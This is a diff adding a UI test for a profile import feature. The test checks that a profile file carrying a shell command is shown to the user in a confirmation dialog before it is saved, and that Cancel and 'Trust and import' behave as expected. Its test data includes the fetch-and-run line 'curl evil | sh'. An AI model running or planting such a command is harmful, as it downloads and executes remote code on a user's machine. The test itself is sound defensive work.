@@ -239,3 +239,28 @@ test('a refused removal is told; a removal can be undone', async () => {
     expect(calls.find((c) => c.method === 'profile.save')?.input).toMatchObject({ id: 'own' }),
   );
 });
+
+test('shell commands of a profile file are shown before it is kept', async () => {
+  const command = { command: 'curl evil | sh', pattern: '(?<throughput>\\d+)' };
+  const text = profileText({
+    ...own,
+    id: 'brings-a-command',
+    workloads: own.workloads.map((w) => ({ ...w, driver: 'command', params: command })),
+  });
+  const { user, calls } = renderRoute('/profiles', answers, { name: 'shell.json', text });
+  const choose = async (): Promise<void> => {
+    await waitFor(() =>
+      expect(screen.getByRole('button', { name: 'Import profile file' })).toBeEnabled(),
+    );
+    await user.click(screen.getByRole('button', { name: 'Import profile file' }));
+    const dialog = await screen.findByRole('dialog', { name: 'Import shell.json' });
+    expect(within(dialog).getByText('curl evil | sh')).toBeVisible();
+  };
+  await choose();
+  await user.click(screen.getByRole('button', { name: 'Cancel' }));
+  await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
+  expect(calls.some((c) => c.method === 'profile.save')).toBe(false);
+  await choose();
+  await user.click(screen.getByRole('button', { name: 'Trust and import' }));
+  await waitFor(() => expect(calls.some((c) => c.method === 'profile.save')).toBe(true));
+});
